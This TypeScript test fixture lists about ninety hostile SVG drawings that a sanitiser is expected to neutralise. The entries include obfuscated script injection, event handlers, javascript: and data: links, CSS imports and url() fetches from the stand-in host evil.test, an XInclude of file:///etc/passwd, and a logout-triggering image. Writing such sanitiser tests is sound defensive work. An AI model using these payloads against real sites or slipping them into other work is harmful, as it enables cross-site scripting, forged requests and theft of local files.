const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">';

const inSvg = (content: string): string => `${OPEN}${content}</svg>`;
const rootWith = (attributes: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}/>`;

/** Drawings that try to run or fetch something. After they are sanitised, none may be able to. */
export const HOSTILE_DRAWINGS: Array<[what: string, drawing: string]> = [
  ['a script', inSvg('<script>alert(1)</script>')],
  ['a script with a type', inSvg('<script type="text/ecmascript">alert(1)</script>')],
  ['a script that is fetched', inSvg('<script href="https://evil.test/x.js"/>')],
  ['a script that is fetched by xlink', inSvg('<script xlink:href="https://evil.test/x.js"/>')],
  ['a script in CDATA', inSvg('<script><![CDATA[alert(1)]]></script>')],
  ['a script of another case', inSvg('<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(1)</ScRiPt>')],
  ['a script deep inside', inSvg('<g><g><g><defs><script>alert(1)</script></defs></g></g></g>')],
  ['a script inside what is left out', inSvg('<metadata><g><script>alert(1)</script></g></metadata>')],
  [
    'a script under a prefix',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
  ],
  ['a script of a page', inSvg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>')],
  [
    'a script of a page under a prefix',
    inSvg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  ],
  ['a script between comments', inSvg('<!-- <g> --><script>alert(1)</script><!-- </g> -->')],
  ['a comment that ends early for a page', inSvg('<!--><script>alert(1)</script>-->')],
  ['a script in an escaped title', inSvg('<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>')],
  ['a script in a title of CDATA', inSvg('<title><![CDATA[</title><script>alert(1)</script>]]></title>')],
  ['a script out of a style', inSvg('<style><![CDATA[</style><script>alert(1)</script>]]></style>')],
  ['a handler at the root', rootWith('onload="alert(1)"')],
  ['a handler of another case', rootWith('ONLOAD="alert(1)" onLoad="alert(1)"')],
  ['a handler under a prefix', rootWith('xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"')],
  ['a handler of an animation', inSvg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['a handler of focus', inSvg('<rect tabindex="1" onfocus="alert(1)" autofocus="autofocus"/>')],
  ['a handler of a click', inSvg('<g onclick="alert(1)"><rect/></g>')],
  ['a handler of a broken image', inSvg('<image href="x" onerror="alert(1)"/>')],
  [
    'a handler by XML events',
    inSvg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  ],
  ['a listener', inSvg('<listener event="click" handler="#h"/>')],
  ['a link that runs', inSvg('<a href="javascript:alert(1)"><text>x</text></a>')],
  ['a link that runs by xlink', inSvg('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['a link of another case', inSvg('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>')],
  ['a link with a tab in it', inSvg('<a href="java&#9;script:alert(1)"><text>x</text></a>')],
  ['a link with a line break in it', inSvg('<a href="java&#10;script:alert(1)"><text>x</text></a>')],
  ['a link after blanks', inSvg('<a href="  &#13; javascript:alert(1)"><text>x</text></a>')],
  ['a link in references', inSvg('<a href="&#x6A;avascript&#58;alert(1)"><text>x</text></a>')],
  ['a link to data', inSvg('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>')],
  ['a link of another dialect', inSvg('<a href="vbscript:msgbox(1)"><text>x</text></a>')],
  ['a link away', inSvg('<a href="https://evil.test/" target="_top"><text>x</text></a>')],
  [
    'an embedded page',
    inSvg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
  ],
  [
    'an embedded frame',
    inSvg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/"/></foreignObject>',
    ),
  ],
  [
    'an embedded page of another case',
    inSvg(
      '<foreignobject><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.test/"/></foreignobject>',
    ),
  ],
  [
    'a frame, an object and an embed',
    inSvg(
      '<iframe href="https://evil.test/"/><object data="https://evil.test/"/><embed src="https://evil.test/"/>',
    ),
  ],
  ['sound and film', inSvg('<audio href="https://evil.test/a"/><video href="https://evil.test/v"/>')],
  ['a use of another file', inSvg('<use href="https://evil.test/x.svg#a"/>')],
  ['a use of another file by xlink', inSvg('<use xlink:href="//evil.test/x.svg#a"/>')],
  ['a use of data', inSvg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  [
    'a use written in two ways',
    inSvg('<use href="https://evil.test/#a" xlink:href="https://evil.test/#b"/>'),
  ],
  ['an image from elsewhere', inSvg('<image href="https://evil.test/x.png"/>')],
  ['an image from elsewhere by xlink', inSvg('<image xlink:href="http://evil.test/x.png"/>')],
  ['an image of this server', inSvg('<image href="/api/users/logout"/>')],
  ['an image that is a drawing', inSvg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>')],
  ['an image that is a drawing of another case', inSvg('<image href="DATA:image/SVG+xml,&lt;svg/>"/>')],
  ['an image that is a page', inSvg('<image href="data:text/html;base64,PHNjcmlwdD4="/>')],
  ['a filter from elsewhere', inSvg('<filter><feImage href="https://evil.test/x.png"/></filter>')],
  ['a gradient from elsewhere', inSvg('<linearGradient href="https://evil.test/x.svg#g"/>')],
  [
    'text along a path from elsewhere',
    inSvg('<text><textPath href="https://evil.test/x.svg#p">x</textPath></text>'),
  ],
  [
    'an animated link',
    inSvg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
  ],
  ['a link that is set', inSvg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>')],
  [
    'an animated link by xlink',
    inSvg('<use><animate attributeName="xlink:href" to="https://evil.test/#a"/></use>'),
  ],
  ['an animation at a distance', inSvg('<animate href="#a" attributeName="onclick" to="alert(1)"/>')],
  ['moving along', inSvg('<animateMotion><mpath href="https://evil.test/#p"/></animateMotion>')],
  ['a transformed handler', inSvg('<animateTransform onend="alert(1)" attributeName="transform"/>')],
  ['a discarded part', inSvg('<discard href="https://evil.test/#a" onbegin="alert(1)"/>')],
  ['a sheet that imports', inSvg('<style>@import "https://evil.test/x.css";</style>')],
  ['a sheet that imports by url', inSvg('<style>@import url(https://evil.test/x.css);</style>')],
  [
    'a sheet with a font',
    inSvg('<style>@font-face{font-family:x;src:url(https://evil.test/x.woff)}</style>'),
  ],
  ['a sheet that fetches', inSvg('<style>rect{fill:url(https://evil.test/x.svg#a)}</style>')],
  ['a sheet of another case', inSvg('<style>rect{fill:UrL( "https://evil.test/x" )}</style>')],
  ['a sheet with escapes', inSvg('<style>rect{fill:u\\72l(https://evil.test/x)}</style>')],
  ['a sheet that hides in comments', inSvg('<style>a{x:"/*";fill:url(https://evil.test/x);y:"*/"}</style>')],
  ['a sheet in pieces', inSvg('<style>rect{fill:ur<![CDATA[l(https://evil.test/x)]]>}</style>')],
  ['a sheet around a comment', inSvg('<style>rect{fill:ur<!-- -->l(https://evil.test/x)}</style>')],
  ['a sheet around an element', inSvg('<style>@im<g/>port "https://evil.test/x.css";</style>')],
  ['a sheet inside a sheet', inSvg('<style>a{}<style>@import "https://evil.test/x.css";</style></style>')],
  [
    'a sheet with a set of images',
    inSvg('<style>svg{background:image-set("https://evil.test/x" 1x)}</style>'),
  ],
  ['a sheet by src', inSvg('<style>svg{background:src("https://evil.test/x")}</style>')],
  ['a sheet with an expression', inSvg('<style>svg{width:expression(alert(1))}</style>')],
  ['a sheet with a binding', inSvg('<style>svg{-moz-binding:url(https://evil.test/x.xml#b)}</style>')],
  [
    'a sheet of a page',
    inSvg('<style xmlns="http://www.w3.org/1999/xhtml">@import "https://evil.test/x.css";</style>'),
  ],
  ['a style that fetches', rootWith('style="background:url(https://evil.test/x)"')],
  ['a style that runs', rootWith('style="background:url(javascript:alert(1))"')],
  ['a style with escapes', rootWith('style="background:\\75 rl(https://evil.test/x)"')],
  ['a style that ends early', rootWith('style="fill:url(#a);mask:url(https://evil.test/x#m)"')],
  ['a fill from elsewhere', inSvg('<rect fill="url(https://evil.test/x.svg#a)"/>')],
  ['a fill with a fallback', inSvg('<rect fill="url(#a) url(https://evil.test/x)"/>')],
  [
    'a mask, a clip and a marker from elsewhere',
    inSvg(
      '<path mask="url(//evil.test/#m)" clip-path="url(\'//evil.test/#c\')" marker-start="url(//evil.test/#k)"/>',
    ),
  ],
  ['a filter from elsewhere by attribute', inSvg('<rect filter="url(https://evil.test/#f)"/>')],
  ['a cursor', inSvg('<rect cursor="url(https://evil.test/x.cur)"/>')],
  ['another base', inSvg('<g xml:base="https://evil.test/"><use href="#a"/></g>')],
  ['a base element', inSvg('<base href="https://evil.test/"/>')],
  ['a sheet by instruction', `<?xml-stylesheet href="https://evil.test/x.css"?>${inSvg('<rect/>')}`],
  [
    'a sheet by instruction inside',
    inSvg('<?xml-stylesheet href="https://evil.test/x.xsl" type="text/xsl"?>'),
  ],
  [
    'a sheet by link',
    inSvg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.test/x.css"/>'),
  ],
  [
    'a refresh',
    inSvg(
      '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.test/"/>',
    ),
  ],
  ['a document type from elsewhere', `<!DOCTYPE svg SYSTEM "https://evil.test/x.dtd">${inSvg('<rect/>')}`],
  [
    'UTF-7',
    `<?xml version="1.0" encoding="UTF-7"?>${inSvg('<title>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</title>')}`,
  ],
  ['a page inside an attribute', inSvg('<rect id="&quot;>&lt;script>alert(1)&lt;/script>"/>')],
  [
    'inclusion',
    inSvg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  ],
  [
    'a transformation',
    inSvg(
      '<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'https://evil.test/\')"/>',
    ),
  ],
];
